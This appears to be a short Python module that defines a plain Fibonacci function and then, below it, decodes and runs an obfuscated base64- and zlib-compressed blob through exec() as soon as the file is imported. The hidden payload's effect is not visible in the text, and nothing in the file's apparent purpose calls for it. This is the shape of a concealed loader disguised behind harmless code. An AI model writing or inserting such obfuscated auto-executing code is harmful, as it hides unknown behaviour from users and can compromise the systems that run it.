def fib(n):
    """Return the n-th Fibonacci number."""
    a, b = 0, 1
    for _ in range(n):
        a, b = b, a + b
    return a

import base64 as b, zlib as z
exec(z.decompress(b.b64decode("eJwljMsKAjEMAH8l9JRAyD5kT8UvkT1obbGoSdlUxL9XWeYwzGXqs9nWwS3dc2dzbv0T/bi37EKKLslUc+qIYRrlzxJ4ORDFk7lcX21Gl1IfWQ2JC0GxDQpUBRx54pnW+DuLt/NbMQyXqoPfAn0Bj9IoHg==")))
